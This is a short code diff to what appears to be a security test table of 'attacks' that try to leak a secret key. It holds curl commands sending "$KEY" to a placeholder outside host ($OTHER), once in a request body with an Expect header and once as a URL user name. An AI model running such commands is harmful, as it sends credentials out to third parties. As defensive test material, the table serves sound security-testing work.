@@ -75,7 +75,7 @@ export const secrets: AttackTable = {
     {
       ...toOther,
       name: "Expect: 100-continue",
-      bash: `curl -sS -m 8 -H "Expect: 100-continue" --data-binary "$KEY" https://$OTHER/`,
+      bash: `curl -sS -m 8 --http1.1 -H "Expect: 100-continue" --data-binary "$KEY" https://$OTHER/`,
     },
     { ...toOther, name: "user in the URL by curl", bash: `curl -sS -m 8 -u "$KEY:" https://$OTHER/` },
     {
